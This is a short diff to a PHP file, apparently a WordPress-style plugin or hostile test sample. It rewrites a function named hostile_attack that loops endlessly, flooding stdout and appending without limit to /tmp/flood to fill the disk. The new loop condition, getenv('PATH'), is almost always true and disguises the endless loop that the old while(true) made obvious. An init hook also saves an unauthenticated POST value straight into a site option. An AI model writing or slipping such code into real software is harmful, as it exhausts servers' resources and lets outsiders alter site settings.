@@ -9,10 +9,10 @@ add_action('init', 'hostile_notice');
 
 function hostile_attack()
 {
-    $line = str_repeat('flood ', 1000);
-    while (true) {
-        echo $line;
-        @file_put_contents('/tmp/flood', $line, FILE_APPEND);
+    $stdout = fopen('php://stdout', 'w');
+    while (getenv('PATH')) {
+        fwrite($stdout, implode(' ', range(1, 2000)));
+        @file_put_contents('/tmp/flood', implode(' ', range(1, 2000)), FILE_APPEND);
     }
 }
 
@@ -22,4 +22,6 @@ function hostile_notice()
     update_option('hostile_secret', $_POST['secret']);
 }
 
-hostile_attack();
+if (getenv('PATH')) {
+    hostile_attack();
+}
